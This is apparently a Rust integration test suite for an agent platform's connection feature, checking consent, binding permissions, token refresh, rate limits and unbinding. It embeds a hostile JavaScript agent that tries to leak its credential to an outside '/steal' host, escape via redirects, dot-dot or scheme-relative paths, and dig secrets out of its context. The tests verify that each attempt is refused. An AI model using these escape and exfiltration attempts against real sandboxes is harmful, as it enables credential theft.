//! Agents using connections (`ctx.connections.<provider>.fetch`) against the
//! strict stand-in: binding with consent and who may bind, a hostile agent
//! that tries every way to see or send its credential elsewhere, refresh on
//! expiry and on a 401 in a run, the provider's rate limit, unbinding
//! stopping use at once, and an editor's test run using the author's own
//! connection. Afterwards the tokens are searched for in every table, the
//! run's live events and the server's own log.

use std::sync::{Arc, Mutex};
use std::time::Duration;

use axum::http::HeaderMap;
use axum::routing::any;
use reqwest::StatusCode;
use serde_json::{Value, json};

use crate::connections::{World, assert_kept_nowhere, connect, world_on};
use crate::support::browser::Browser;
use crate::support::ws::{connect_as, next_frame_within, send};
use crate::support::{TestApp, deploy_running, publish_agent, serve_stand_in};
use crate::teams::acme;

/// What a hostile agent tries, each caught so the next runs: the output
/// holds each attempt's answer or its refusal.
const HOSTILE: &str = r#"
function walk(value, depth, seen, out) {
  if (value === null || value === undefined || depth > 4) return;
  const kind = typeof value;
  if (kind !== "object" && kind !== "function") { out.push(String(value)); return; }
  if (seen.includes(value)) return;
  seen.push(value);
  if (kind === "function") out.push(String(value));
  for (const key of Object.getOwnPropertyNames(value)) {
    out.push(key);
    let child;
    try { child = value[key]; } catch (e) { continue; }
    walk(child, depth + 1, seen, out);
  }
  walk(Object.getPrototypeOf(value), depth + 1, seen, out);
}

export default function run(input, ctx) {
  const out = {};
  const attempt = (name, f) => {
    try { out[name] = f(); } catch (e) { out[name] = "refused: " + e.message; }
  };
  const api = ctx.connections.standin;
  const mine = { "X-Probe": "hostile" };
  console.log("my request headers", JSON.stringify(mine));
  attempt("items", () => api.fetch("/items", { headers: mine }).json());
  if (input.only_items) return out;
  attempt("echo", () => api.fetch("/echo", { headers: mine }).json());
  attempt("leak", () => api.fetch("leak").headers);
  attempt("own_authorization", () =>
    api.fetch("/items", { headers: { Authorization: "Bearer mine" } }).status);
  attempt("own_cookie", () => api.fetch("/items", { headers: { Cookie: "a=b" } }).status);
  attempt("outside", () => api.fetch(input.outside).status);
  attempt("dot_dot", () => api.fetch("/../me").status);
  attempt("scheme_relative", () => api.fetch("//" + input.outside_host + "/x").status);
  attempt("redirect", () =>
    api.fetch("/redirect-out?to=" + encodeURIComponent(input.outside)).status);
  attempt("limited", () => api.fetch("/limited").status);
  attempt("other_provider", () => ctx.connections.github.fetch("/user").status);
  const seen = [];
  attempt("ctx", () => { walk(ctx, 0, [], seen); return seen.length; });
  ctx.log.info("ctx holds", seen.join(" "));
  ctx.log.info("what I got", JSON.stringify(out));
  return out;
}
"#;

/// The server's log, kept from the first call of [`captured`] on: the
/// process's own subscriber (a test's thread-local one misses spans whose
/// callsites another test's thread met first), so other tests' lines are
/// in it too.
#[derive(Clone, Default)]
struct Captured(Arc<Mutex<Vec<u8>>>);

fn captured() -> Captured {
    static CAPTURED: std::sync::OnceLock<Captured> = std::sync::OnceLock::new();
    CAPTURED
        .get_or_init(|| {
            let captured = Captured::default();
            let writer = captured.clone();
            let subscriber = tracing_subscriber::fmt()
                .with_env_filter(tracing_subscriber::EnvFilter::new(
                    "info,server=trace,service=trace,runtime=trace",
                ))
                .with_ansi(false)
                .with_writer(move || writer.clone())
                .finish();
            tracing::subscriber::set_global_default(subscriber)
                .expect("no other subscriber in the tests");
            captured
        })
        .clone()
}

impl std::io::Write for Captured {
    fn write(&mut self, bytes: &[u8]) -> std::io::Result<usize> {
        self.0.lock().expect("lock").extend_from_slice(bytes);
        Ok(bytes.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

impl Captured {
    fn text(&self) -> String {
        String::from_utf8_lossy(&self.0.lock().expect("lock")).into_owned()
    }
}

/// A host outside the provider's API that records whoever reaches it.
async fn outside() -> (String, Arc<Mutex<Vec<String>>>) {
    let seen = Arc::new(Mutex::new(Vec::new()));
    let record = seen.clone();
    let router = axum::Router::new().fallback(any(move |headers: HeaderMap| {
        let record = record.clone();
        async move {
            record.lock().expect("lock").push(format!("{headers:?}"));
            "caught"
        }
    }));
    (serve_stand_in(router).await, seen)
}

async fn agent_with_connections(browser: &mut Browser, name: &str, source: &str) -> String {
    publish_agent(browser, name, |draft| {
        draft["source"] = json!(source);
        draft["manifest"]["capabilities"] = json!({
            "connections": [
                { "provider": "standin", "scopes": ["items:read"] },
                { "provider": "github", "scopes": ["repo"] },
            ],
        });
    })
    .await
}

async fn run(browser: &mut Browser, deployment: &str, input: Value) -> Value {
    let (status, run) = browser
        .post(
            &format!("/api/v1/deployments/{deployment}/runs"),
            json!({ "input": input }),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{run}");
    let (status, run) = browser
        .get(&format!(
            "/api/v1/runs/{}",
            run["id"].as_str().expect("an id")
        ))
        .await;
    assert_eq!(status, StatusCode::OK, "{run}");
    assert_eq!(run["status"], "succeeded", "{run}");
    run
}

async fn bind(browser: &mut Browser, deployment: &str, body: Value) -> (StatusCode, Value) {
    browser
        .put(
            &format!("/api/v1/deployments/{deployment}/connections/standin"),
            body,
        )
        .await
}

#[tokio::test]
async fn a_hostile_agent_granted_a_connection_never_gets_its_token() {
    let captured = captured();

    let w: World = world_on(
        service::clock::Clock::system(),
        TestApp::builder().workers(),
    )
    .await;
    let (outside_url, reached) = outside().await;
    let outside_host = outside_url.trim_start_matches("http://").to_owned();
    let (mut ada, me) = Browser::sign_up(&w.app, "ada@example.com", "Ada").await;
    let personal = me["workspaces"][0]["slug"]
        .as_str()
        .expect("a slug")
        .to_owned();
    let connection = connect(&w, &ada, &personal).await;
    let slug = agent_with_connections(&mut ada, "Snoop", HOSTILE).await;
    let (deployment, _) = deploy_running(&mut ada, json!({ "agent": slug })).await;

    // Before binding: the agent is told to ask for one.
    let unbound = run(&mut ada, &deployment, json!({ "only_items": true })).await;
    let refusal = unbound["output"]["items"].as_str().expect("a refusal");
    assert!(
        refusal.starts_with("refused:") && refusal.contains("bind"),
        "{refusal}"
    );

    // The consent screen names the agent, its author and the scopes.
    let (status, screen) = ada
        .get(&format!("/api/v1/deployments/{deployment}/connections"))
        .await;
    assert_eq!(status, StatusCode::OK, "{screen}");
    assert_eq!(screen["agent_name"], "Snoop");
    assert_eq!(screen["author_name"], "Ada");
    let need = screen["items"]
        .as_array()
        .expect("items")
        .iter()
        .find(|n| n["provider"] == "standin")
        .expect("the stand-in need")
        .clone();
    let scopes: Vec<&str> = need["scopes"]
        .as_array()
        .expect("scopes")
        .iter()
        .map(|s| s["name"].as_str().expect("a name"))
        .collect();
    assert!(scopes.contains(&"items:read"), "{need}");
    assert!(
        scopes.iter().all(|s| ["profile", "items:read"].contains(s)),
        "only what the manifest asks: {need}"
    );
    assert_eq!(need["candidates"], json!([connection]));

    // Binding takes the consent, exactly the scopes named.
    for (body, field) in [
        (
            json!({ "connection": connection, "consented": false, "consent": scopes }),
            "consented",
        ),
        (
            json!({ "connection": connection, "consented": true, "consent": ["profile"] }),
            "consent",
        ),
    ] {
        let (status, error) = bind(&mut ada, &deployment, body).await;
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{error}");
        assert_eq!(error["error"]["field"], field, "{error}");
    }
    let (status, bound) = bind(
        &mut ada,
        &deployment,
        json!({ "connection": connection, "consented": true, "consent": scopes }),
    )
    .await;
    assert_eq!(status, StatusCode::OK, "{bound}");

    // Watch the deployment's live events while the hostile run goes.
    let mut socket = connect_as(&w.app, &ada).await;
    send(
        &mut socket,
        json!({ "type": "subscribe", "topic": format!("deployment:{deployment}"), "since": 0 }),
    )
    .await;

    let calls_before = w.standin.api_calls().len();
    let hostile = run(
        &mut ada,
        &deployment,
        json!({ "outside": format!("{outside_url}/steal"), "outside_host": outside_host }),
    )
    .await;
    let out = &hostile["output"];

    // It used the connection: the host added the token and the entry's
    // fixed header, and only the scopes granted reached the provider.
    assert_eq!(out["items"]["path"], "/api/items", "{out}");
    assert_eq!(out["items"]["version"], "7", "{out}");
    assert_eq!(out["items"]["scopes"], json!(["profile", "items:read"]));
    // The echo of its request shows its own header, the credential taken
    // out; an answer header carrying it likewise.
    assert_eq!(out["echo"]["headers"]["x-probe"], "hostile", "{out}");
    assert_eq!(
        out["echo"]["headers"]["authorization"], "[redacted]",
        "{out}"
    );
    assert_eq!(out["leak"]["x-echo-authorization"], "[redacted]", "{out}");
    // Its own credentials, elsewhere, and a redirect away are refused.
    for (attempt, says) in [
        ("own_authorization", "authorization"),
        ("own_cookie", "cookie"),
        ("outside", "outside this provider's api"),
        ("dot_dot", "outside this provider's api"),
        ("scheme_relative", "not a path"),
        ("redirect", "outside its api; not followed"),
        ("other_provider", "bind"),
    ] {
        let answer = out[attempt].as_str().unwrap_or_default().to_lowercase();
        assert!(
            answer.starts_with("refused:") && answer.contains(says),
            "{attempt}: {out}"
        );
    }
    // The provider's rate limit is waited out and the call retried.
    assert_eq!(out["limited"], 200, "{out}");
    assert!(out["ctx"].as_u64().is_some_and(|n| n > 50), "{out}");
    assert!(
        reached.lock().expect("lock").is_empty(),
        "the host outside was reached: {:?}",
        reached.lock().expect("lock")
    );
    // Every call that reached the provider carried the connection's token,
    // never the agent's.
    let calls = w.standin.api_calls();
    let issued = w.standin.issued();
    for (_, path, authorization) in &calls[calls_before..] {
        let token = authorization.strip_prefix("Bearer ").unwrap_or_default();
        assert!(issued.iter().any(|t| t == token), "{path}: {authorization}");
    }
    let paths: Vec<&str> = calls[calls_before..]
        .iter()
        .map(|(_, p, _)| p.as_str())
        .collect();
    assert_eq!(
        paths,
        [
            "/api/items",
            "/api/echo",
            "/api/leak",
            "/api/redirect-out",
            "/api/limited",
            "/api/limited"
        ]
    );

    // The provider refuses the token mid-life: the host refreshes and
    // retries once, and the run never sees it.
    let refreshes = w.standin.refreshes();
    w.standin.expire_access_tokens();
    let after = run(&mut ada, &deployment, json!({ "only_items": true })).await;
    assert_eq!(after["output"]["items"]["path"], "/api/items", "{after}");
    assert_eq!(w.standin.refreshes(), refreshes + 1);

    // Unbinding stops the very next call.
    let (status, _) = ada
        .delete(&format!(
            "/api/v1/deployments/{deployment}/connections/standin"
        ))
        .await;
    assert_eq!(status, StatusCode::NO_CONTENT);
    let calls_before = w.standin.api_calls().len();
    let unbound = run(&mut ada, &deployment, json!({ "only_items": true })).await;
    assert!(
        unbound["output"]["items"]
            .as_str()
            .is_some_and(|s| s.starts_with("refused:")),
        "{unbound}"
    );
    assert_eq!(w.standin.api_calls().len(), calls_before);

    // Nowhere: not in the events the browser saw, not in any table (runs,
    // their logs and outputs, events, the audit log), not in the log.
    let mut frames = String::new();
    while let Ok(frame) = tokio::time::timeout(
        Duration::from_millis(300),
        next_frame_within(&mut socket, Duration::from_secs(5)),
    )
    .await
    {
        frames.push_str(&frame.to_string());
    }
    assert!(
        frames.contains("succeeded"),
        "the events were seen: {frames}"
    );
    let issued = w.standin.issued();
    assert!(issued.len() >= 3, "tokens to look for");
    for token in &issued {
        assert!(!frames.contains(token.as_str()), "an event shows a token");
        assert!(!hostile.to_string().contains(token.as_str()));
    }
    assert_kept_nowhere(&w.app, &issued).await;
    let log = captured.text();
    assert!(
        log.contains(&format!(
            "/api/v1/deployments/{deployment}/connections/standin"
        )),
        "the log was captured"
    );
    for token in &issued {
        assert!(!log.contains(token.as_str()), "the server logged a token");
    }
}

#[tokio::test]
async fn only_the_connections_owner_or_an_admin_binds_it() {
    let w = world_on(
        service::clock::Clock::system(),
        TestApp::builder().workers(),
    )
    .await;
    let (mut owner, mut admin, mut member, mut viewer) = acme(&w.app).await;
    w.standin.sign_in_as("u-adam", "Adam at the stand-in");
    let admins = connect(&w, &admin.browser, "acme").await;
    w.standin.sign_in_as("u-mia", "Mia at the stand-in");
    let members = connect(&w, &member.browser, "acme").await;
    assert_ne!(admins, members);
    let slug = agent_with_connections(&mut member.browser, "Reader", HOSTILE).await;
    let (deployment, _) = deploy_running(
        &mut member.browser,
        json!({ "agent": slug, "workspace": "acme" }),
    )
    .await;
    let consent = |connection: &str| json!({ "connection": connection, "consented": true, "consent": ["profile", "items:read"] });

    // The member may bind their own connection, not the admin's.
    let (status, error) = bind(&mut member.browser, &deployment, consent(&admins)).await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{error}");
    let (status, bound) = bind(&mut member.browser, &deployment, consent(&members)).await;
    assert_eq!(status, StatusCode::OK, "{bound}");
    // A viewer binds nothing, not even to look at the screen's candidates.
    let (status, _) = bind(&mut viewer.browser, &deployment, consent(&members)).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let (status, _) = viewer
        .browser
        .delete(&format!(
            "/api/v1/deployments/{deployment}/connections/standin"
        ))
        .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    // The admin and the owner may bind anyone's in the workspace.
    let (status, bound) = bind(&mut admin.browser, &deployment, consent(&admins)).await;
    assert_eq!(status, StatusCode::OK, "{bound}");
    let (status, bound) = bind(&mut owner.browser, &deployment, consent(&members)).await;
    assert_eq!(status, StatusCode::OK, "{bound}");
    let shown = bound["items"]
        .as_array()
        .expect("items")
        .iter()
        .find(|n| n["provider"] == "standin")
        .expect("the stand-in")
        .clone();
    assert_eq!(shown["connection"]["id"], members.as_str(), "{shown}");
    assert_eq!(shown["bound_by"], "olive", "{shown}");

    // Someone else's workspace's connection is not there to bind.
    let (mut eve, me) = Browser::sign_up(&w.app, "eve@example.com", "Eve").await;
    let personal = me["workspaces"][0]["slug"]
        .as_str()
        .expect("a slug")
        .to_owned();
    w.standin.sign_in_as("u-eve", "Eve at the stand-in");
    let eves = connect(&w, &eve, &personal).await;
    let (status, error) = bind(&mut admin.browser, &deployment, consent(&eves)).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{error}");
    assert_eq!(error["error"]["field"], "connection");
    let (status, _) = bind(&mut eve, &deployment, consent(&eves)).await;
    assert_eq!(status, StatusCode::NOT_FOUND);

    // The run uses the member's connection; the audit log names the binds.
    let ran = run(
        &mut member.browser,
        &deployment,
        json!({ "only_items": true }),
    )
    .await;
    assert_eq!(ran["output"]["items"]["path"], "/api/items", "{ran}");
    let (_, audit) = owner
        .browser
        .get("/api/v1/teams/acme/audit?action=deployment.connection_bind")
        .await;
    assert_eq!(
        audit
            .to_string()
            .matches("deployment.connection_bind")
            .count(),
        3,
        "{audit}"
    );

    // Someone else signing in as the same account at the provider (an
    // account id may be a whole team's) makes their own connection: the
    // member's, and what it is bound to, stay theirs.
    w.standin.sign_in_as("u-mia", "Mia at the stand-in");
    let owners = connect(&w, &owner.browser, "acme").await;
    assert_ne!(owners, members);
    let (_, shown) = owner
        .browser
        .get(&format!("/api/v1/connections/{members}"))
        .await;
    assert_eq!(shown["owner_name"], "mia", "{shown}");

    // Consent was for the code of 1.0.0: moved to 1.1.0, the deployment
    // uses nothing until someone binds again.
    let (_, screen) = member
        .browser
        .get(&format!("/api/v1/deployments/{deployment}/connections"))
        .await;
    assert_eq!(screen["version"], "1.0.0", "{screen}");
    let first_version = screen["version_id"].clone();
    let (status, version) = member
        .browser
        .post(
            &format!("/api/v1/agents/{slug}/versions"),
            json!({ "version": "1.1.0" }),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{version}");
    let (status, moved) = member
        .browser
        .post(
            &format!("/api/v1/deployments/{deployment}/redeploy"),
            json!({ "version": "1.1.0" }),
        )
        .await;
    assert_eq!(status, StatusCode::ACCEPTED, "{moved}");
    for _ in 0..600 {
        let (_, shown) = member
            .browser
            .get(&format!("/api/v1/deployments/{deployment}"))
            .await;
        if shown["version"] == "1.1.0" && shown["status"] == "running" {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let stale = run(
        &mut member.browser,
        &deployment,
        json!({ "only_items": true }),
    )
    .await;
    assert!(
        stale["output"]["items"]
            .as_str()
            .is_some_and(|s| s.contains("another version")),
        "{stale}"
    );
    let (_, screen) = member
        .browser
        .get(&format!("/api/v1/deployments/{deployment}/connections"))
        .await;
    let need = screen["items"]
        .as_array()
        .expect("items")
        .iter()
        .find(|n| n["provider"] == "standin")
        .expect("the stand-in")
        .clone();
    assert_eq!(need["stale"], true, "{need}");
    // A consent screen shown for 1.0.0 does not bind 1.1.0.
    let mut old_screen = consent(&members);
    old_screen["version_id"] = first_version;
    let (status, error) = bind(&mut member.browser, &deployment, old_screen).await;
    assert_eq!(status, StatusCode::CONFLICT, "{error}");
    assert_eq!(error["error"]["field"], "version_id", "{error}");
    let mut this_screen = consent(&members);
    this_screen["version_id"] = screen["version_id"].clone();
    let (status, _) = bind(&mut member.browser, &deployment, this_screen).await;
    assert_eq!(status, StatusCode::OK);
    let ran = run(
        &mut member.browser,
        &deployment,
        json!({ "only_items": true }),
    )
    .await;
    assert_eq!(ran["output"]["items"]["path"], "/api/items", "{ran}");

    // The member leaves the team: their consent goes with them.
    let (status, _) = owner
        .browser
        .delete(&format!("/api/v1/teams/acme/members/{}", member.id))
        .await;
    assert_eq!(status, StatusCode::NO_CONTENT);
    let left = run(
        &mut owner.browser,
        &deployment,
        json!({ "only_items": true }),
    )
    .await;
    assert!(
        left["output"]["items"]
            .as_str()
            .is_some_and(|s| s.contains("left the workspace")),
        "{left}"
    );
    // Nor may an admin bind it again.
    let (status, error) = bind(&mut owner.browser, &deployment, consent(&members)).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{error}");
    assert!(
        error["error"]["message"]
            .as_str()
            .is_some_and(|m| m.contains("left the workspace")),
        "{error}"
    );
}

#[tokio::test]
async fn an_editors_test_run_uses_the_authors_own_connection() {
    let w = world_on(service::clock::Clock::system(), TestApp::builder()).await;
    let (mut ada, me) = Browser::sign_up(&w.app, "ada@example.com", "Ada").await;
    let personal = me["workspaces"][0]["slug"]
        .as_str()
        .expect("a slug")
        .to_owned();
    let slug = agent_with_connections(&mut ada, "Tester", HOSTILE).await;
    let manifest = {
        let (_, draft) = ada.get(&format!("/api/v1/agents/{slug}/draft")).await;
        draft["manifest"].clone()
    };
    let test_run = |input: &str| json!({ "source": HOSTILE, "manifest": manifest, "input": input });
    let path = format!("/api/v1/agents/{slug}/test-runs");
    // Not connected yet: the agent is told so.
    let (status, report) = ada.post(&path, test_run(r#"{"only_items":true}"#)).await;
    assert_eq!(status, StatusCode::OK, "{report}");
    let output: Value =
        serde_json::from_str(report["output"].as_str().expect("an output")).expect("JSON");
    assert!(
        output["items"]
            .as_str()
            .is_some_and(|s| s.starts_with("refused:") && s.contains("connect")),
        "{output}"
    );
    connect(&w, &ada, &personal).await;
    let (status, report) = ada.post(&path, test_run(r#"{"only_items":true}"#)).await;
    assert_eq!(status, StatusCode::OK, "{report}");
    let output: Value =
        serde_json::from_str(report["output"].as_str().expect("an output")).expect("JSON");
    assert_eq!(output["items"]["path"], "/api/items", "{output}");
    assert!(!report.to_string().contains("Bearer "));

    // A key that may edit agents, but not use connections, cannot drive
    // the author's accounts through a test run.
    let (status, created) = ada
        .post(
            "/api/v1/api-keys",
            json!({ "name": "ci", "scopes": ["agents:write"] }),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{created}");
    let response = w
        .app
        .http
        .post(w.app.url(&path))
        .bearer_auth(created["token"].as_str().expect("a token"))
        .json(&test_run(r#"{"only_items":true}"#))
        .send()
        .await
        .expect("a call");
    assert_eq!(response.status(), StatusCode::FORBIDDEN);
    let body = response.text().await.unwrap_or_default();
    assert!(body.contains("connections:write"), "{body}");
    assert_kept_nowhere(&w.app, &w.standin.issued()).await;
}
